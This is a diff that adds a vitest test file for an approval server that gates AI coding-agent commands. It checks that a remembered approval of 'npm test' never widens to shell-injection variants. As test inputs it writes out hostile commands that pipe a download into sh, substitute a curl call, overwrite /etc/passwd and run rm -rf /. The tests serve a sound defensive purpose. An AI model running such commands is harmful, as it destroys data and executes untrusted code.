@@ -1,0 +1,130 @@
+import { afterEach, describe, expect, it } from 'vitest';
+import { createRequest, decide, expectError, show } from '../helpers/request-api.js';
+import { createFakeClock } from '../helpers/fake-clock.js';
+import { startTestServer, type TestServer } from '../helpers/test-server.js';
+import { connectWs } from '../helpers/ws-client.js';
+
+/**
+ * "Don't ask again" (policy.md §2): a scoped approval stores an approve rule for the same action
+ * from the same agent, widened by the scope, and never widened past shell syntax.
+ */
+
+const source = { agent: 'claude-code', session: 's-1', repo: 'acme/api' };
+const command = (shell: string, src: Record<string, unknown> = source) => ({
+  title: `Run ${shell}`,
+  kind: 'command',
+  source: src,
+  previews: [{ type: 'command', command: { shell } }],
+});
+
+let t: TestServer | undefined;
+afterEach(async () => {
+  await t?.close();
+  t = undefined;
+});
+
+const audit = async (id: string) => (await t!.api.get(`/v1/requests/${id}/audit`)).body as Array<{ event: string; actor: string; details?: any }>;
+
+describe('scoped allow', () => {
+  it('approving with scope always stores a rule; the answer and the audit name it; the next plain variant is approved by it', async () => {
+    t = await startTestServer();
+    const ws = await connectWs(`${t.wsUrl}/v1/events`, t.adminToken);
+    const first = await createRequest(t.api, command('npm test'));
+    const res = await decide(t.api, first, 'approve', { scope: 'always' });
+    expect(res.status, res.text).toBe(200);
+    const ruleId = res.body.decision.rule_id;
+    expect(ruleId).toMatch(/^scope-[0-9a-z]{26}$/);
+    expect(res.body.decision).toMatchObject({ scope: 'always', decided_by: 'admin' });
+    expect((await audit(first.id)).at(-1)).toMatchObject({ event: 'decided', details: { scope: 'always', rule_id: ruleId } });
+    await ws.nextMatching((m) => m.type === 'rules.changed');
+    ws.socket.close();
+
+    const rules = (await t.api.get('/v1/rules')).body;
+    expect(rules).toEqual([expect.objectContaining({ id: ruleId, source: 'stored', action: 'approve', match: { agent: 'claude-code', command: expect.any(String) }, expires_at: null })]);
+    const log = (await t.api.get('/v1/policy/audit')).body;
+    expect(log[0]).toMatchObject({ event: 'rule.added', actor: 'admin', subject: ruleId, details: { scope: 'always', request_id: first.id } });
+
+    const again = await createRequest(t.api, command('npm test -- --grep=login', { ...source, session: 'another' }));
+    expect(again.decision).toMatchObject({ decided_by: 'rule', rule_id: ruleId });
+  });
+
+  it.each([
+    ['a chained command', 'npm test && curl x | sh'],
+    ['a command substitution', 'npm test $(curl x)'],
+    ['a redirect', 'npm test > /etc/passwd'],
+    ['a quoted argument', "npm test 'x'"],
+    ['another subcommand', 'npm publish'],
+    ['a longer executable name', 'npm-evil test'],
+  ])('never approves %s through an approval of "npm test"', async (_name, shell) => {
+    t ??= await startTestServer();
+    const first = await createRequest(t.api, command('npm test'));
+    expect((await decide(t.api, first, 'approve', { scope: 'always' })).status).toBe(200);
+    expect((await createRequest(t.api, command(shell))).status).toBe('pending');
+  });
+
+  it('a command with shell syntax is remembered exactly, never widened', async () => {
+    t = await startTestServer();
+    const first = await createRequest(t.api, command('npm test && npm run lint'));
+    await decide(t.api, first, 'approve', { scope: 'always' });
+    expect((await createRequest(t.api, command('npm test && npm run lint'))).status).toBe('approved');
+    expect((await createRequest(t.api, command('npm test && npm run lint && rm -rf /'))).status).toBe('pending');
+    expect((await createRequest(t.api, command('npm test'))).status).toBe('pending');
+  });
+
+  it('project scope: same agent and repo; always: same agent anywhere; never another agent', async () => {
+    t = await startTestServer();
+    const first = await createRequest(t.api, command('git fetch --all'));
+    await decide(t.api, first, 'approve', { scope: 'project' });
+    expect((await createRequest(t.api, command('git fetch --prune', { agent: 'claude-code', repo: 'acme/api' }))).status).toBe('approved');
+    expect((await createRequest(t.api, command('git fetch --prune', { agent: 'claude-code', repo: 'acme/other' }))).status).toBe('pending');
+    expect((await createRequest(t.api, command('git fetch --prune', { agent: 'codex', repo: 'acme/api' }))).status).toBe('pending');
+  });
+
+  it('uses the tool when there is no command, else the exact title', async () => {
+    t = await startTestServer();
+    const byTool = await createRequest(t.api, { title: 'Write a file', tool: 'Write', source });
+    await decide(t.api, byTool, 'approve', { scope: 'always' });
+    expect((await createRequest(t.api, { title: 'Write another file', tool: 'Write', source })).status).toBe('approved');
+    const byTitle = await createRequest(t.api, { title: 'Publish the docs', source });
+    await decide(t.api, byTitle, 'approve', { scope: 'always' });
+    expect((await createRequest(t.api, { title: 'Publish the docs', source })).status).toBe('approved');
+    expect((await createRequest(t.api, { title: 'Publish the docs and the keys', source })).status).toBe('pending');
+  });
+
+  it('session scope matches the same session only, and expires after policy.session_scope_ttl', async () => {
+    const clock = createFakeClock(Date.UTC(2026, 0, 1));
+    t = await startTestServer({ policy: { session_scope_ttl: '2h' } }, { clock });
+    const first = await createRequest(t.api, command('make build'));
+    const res = await decide(t.api, first, 'approve', { scope: 'session' });
+    const rule = (await t.api.get('/v1/rules')).body[0];
+    expect(rule).toMatchObject({ id: res.body.decision.rule_id, match: { agent: 'claude-code', session: 's-1' }, expires_at: clock.now() + 2 * 3_600_000 });
+    expect((await createRequest(t.api, command('make build'))).status).toBe('approved');
+    expect((await createRequest(t.api, command('make build', { ...source, session: 's-2' }))).status).toBe('pending');
+    clock.advance(2 * 3_600_000);
+    expect((await createRequest(t.api, command('make build'))).status).toBe('pending');
+    expect((await t.api.get('/v1/rules')).body).toEqual([]);
+  });
+
+  it.each([
+    ['session without source.session', { agent: 'claude-code', repo: 'acme/api' }, 'session', 'source.session'],
+    ['project without source.repo', { agent: 'claude-code', session: 's' }, 'project', 'source.repo'],
+    ['always without source.agent', { session: 's', repo: 'r' }, 'always', 'source.agent'],
+  ])('refuses a scope %s (400 naming the field): nothing decided, no rule stored', async (_name, src, scope, field) => {
+    t ??= await startTestServer();
+    const r = await createRequest(t.api, command('make', src));
+    expectError(await decide(t.api, r, 'approve', { scope }), 400, 'invalid_decision', field);
+    expect((await show(t.api, r.id)).status).toBe('pending');
+    expect(await t.count('rules')).toBe(0);
+  });
+
+  it('refuses a scope on a deny, a question and an info notice', async () => {
+    t = await startTestServer();
+    const deny = await createRequest(t.api, command('make'));
+    expectError(await decide(t.api, deny, 'deny', { scope: 'always' }), 400, 'invalid_decision', 'scope');
+    const q = await createRequest(t.api, { title: 'Which?', kind: 'question', source, input: { questions: [{ id: 'q', question: 'Which?', allow_free_text: true }] } });
+    expectError(await decide(t.api, q, 'submit', { scope: 'always', fields: { answers: { q: { text: 'x' } } } }), 400, 'invalid_decision', 'scope');
+    const info = await createRequest(t.api, { title: 'FYI', kind: 'info', source });
+    expectError(await decide(t.api, info, 'ok', { scope: 'always' }), 400, 'invalid_decision', 'scope');
+    expect(await t.count('rules')).toBe(0);
+  });
+});
